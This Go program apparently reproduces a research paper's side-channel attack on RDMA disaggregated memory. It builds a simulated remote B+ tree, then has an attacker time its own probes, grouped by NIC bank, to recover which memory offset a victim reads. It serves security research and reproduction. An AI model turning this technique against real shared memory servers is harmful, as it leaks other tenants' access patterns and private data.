// Disaggregated-memory snoop demo (Section VI-B): a victim compute server
// looks up keys in a Sherman-style remote B+ tree; an attacker sharing the
// memory server recovers WHICH index region the victim touches, purely from
// the Grain-IV offset effect on its own probe latency.
package main

import (
	"fmt"
	"log"

	"github.com/thu-has/ragnar"
)

func main() {
	// --- Part 1: the disaggregated B+ tree works -------------------------
	cfg := ragnar.DefaultClusterConfig(ragnar.CX6)
	cfg.Clients = 2
	cluster := ragnar.NewCluster(cfg)
	ms, err := ragnar.NewMemoryServer(cluster, 2<<20)
	if err != nil {
		log.Fatal(err)
	}
	client, err := ragnar.NewTreeClient(cluster, ms, 0)
	if err != nil {
		log.Fatal(err)
	}
	var v [ragnar.TreeValueBytes]byte
	copy(v[:], "patient-record-774")
	for k := uint64(0); k < 100; k++ {
		val := v
		val[len(val)-1] = byte(k)
		if err := client.Insert(k, val); err != nil {
			log.Fatal(err)
		}
	}
	got, ok, err := client.Get(77)
	if err != nil || !ok {
		log.Fatalf("lookup failed: %v ok=%v", err, ok)
	}
	leafOff, err := client.LeafOffsetOf(77)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("B+ tree over RDMA: key 77 -> %q, stored in leaf at MR offset %d\n",
		got[:18], leafOff)
	fmt.Printf("(every Get/Insert is real verbs traffic: %d reads, %d writes so far)\n\n",
		client.Reads, client.Writes)

	// --- Part 2: the snoop attack ----------------------------------------
	// The victim repeatedly reads one of 17 candidate offsets in a shared
	// region; the attacker probes 257 observation offsets and recovers it.
	snoopCfg := ragnar.DefaultSnoopConfig(ragnar.CX4)
	snoopCfg.ProbesPerOffset = 8
	snooper, err := ragnar.NewSnooper(snoopCfg)
	if err != nil {
		log.Fatal(err)
	}
	const secretOffset = 448 // the victim's secret: which 64 B entry it reads
	trace, err := snooper.CaptureTrace(secretOffset)
	if err != nil {
		log.Fatal(err)
	}

	// Classify by TPU bank: observation offsets sharing the victim's bank
	// show elevated ULI.
	banks := uint64(ragnar.CX4.TPUBanks)
	best, bestScore := uint64(0), -1e18
	for _, cand := range snoopCfg.Candidates {
		var sum float64
		var n int
		for i, off := range snoopCfg.Observation {
			if (off/64)%banks == (cand/64)%banks {
				sum += trace[i]
				n++
			}
		}
		if score := sum / float64(n); score > bestScore {
			best, bestScore = cand, score
		}
	}
	fmt.Printf("victim secretly read offset %d; attacker's trace analysis says %d\n",
		secretOffset, best)
	if best == secretOffset {
		fmt.Println("=> exact recovery. The paper's ResNet18 classifier reaches 95.6%")
		fmt.Println("   over all 17 candidates; run `ragnar fig13` for the full")
		fmt.Println("   classifier pipeline.")
	} else {
		fmt.Println("=> recovered the wrong candidate on this trace; the classifier")
		fmt.Println("   pipeline averages many traces to reach paper-level accuracy.")
	}
}
